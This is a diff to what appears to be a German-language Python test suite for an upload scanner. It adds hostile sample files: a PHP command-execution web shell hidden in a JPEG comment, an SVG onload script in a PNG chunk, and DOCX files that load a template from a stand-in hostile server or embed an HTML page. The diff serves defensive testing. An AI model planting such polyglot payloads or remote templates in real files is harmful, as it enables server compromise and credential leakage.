@@ -88,6 +88,8 @@ def bilder() -> list[Upload]:
         Upload("JPEG mit HTML dahinter", "bild.jpg", jpeg + SEITE, "fremdes"),
         Upload("JPEG mit HTML im Kommentar", "bild.jpg", b.with_segment(jpeg, 0xFE, SEITE), "fremdes"),
         Upload("JPEG mit PHP", "bild.jpg", b.with_segment(jpeg, 0xFE, b"<?php system($_GET[0]); ?>"), "fremdes"),
+        Upload("JPEG mit PHP und Zeilenende", "a.jpg", b.with_segment(jpeg, 0xFE, b"<?php\nsystem(1);"), "fremdes"),
+        Upload("PNG mit SVG", "a.png", b.png_of(9, 9, b.chunk(b"tEXt", b"a\0<svg onload=alert(1)>")), "fremdes"),
         Upload("JPEG mit ZIP dahinter", "bild.jpg", jpeg + b.pack([("a.exe", b"MZ")]), "fremdes"),
         Upload("JPEG und PDF zugleich", "bild.jpg", b.with_segment(jpeg, 0xFE, b"%PDF-1.4 1 0 obj"), "fremdes"),
         Upload("JPEG mit Programm dahinter", "bild.jpg", jpeg + b"MZ\x90" + bytes(50), "fremdes"),
@@ -164,6 +166,8 @@ def texte() -> list[Upload]:
     external = b.relations(b.relation("attachedTemplate", "https://boese.example/a.dotm", external=True))
     macros = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
     enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
+    server = b.relations(b.relation("attachedTemplate", "file://boese.example/a.dotm", external=True))
+    page = b.relations(b.relation("aFChunk", "seite.html"))
     encrypted = "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"
     event = (
         '<office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:a"/></office:event-listeners>'
@@ -181,6 +185,10 @@ def texte() -> list[Upload]:
         ),
         Upload(
             "eingebettetes Archiv", "b.docx", b.docx("x", ("word/media/a.png", b.pack([("a", b"b")]))), "eingebettet"
+        ),
+        Upload("Vorlage von fremdem Server", "brief.docx", b.docx(links=server), "nachladen"),
+        Upload(
+            "Internetseite in DOCX", "brief.docx", b.docx("x", ("word/seite.html", b"<p>"), links=page), "eingebettet"
         ),
         Upload("EICAR in DOCX", "brief.docx", b.docx("x", ("word/media/a.png", b.EICAR)), "schadprogramm"),
         Upload(
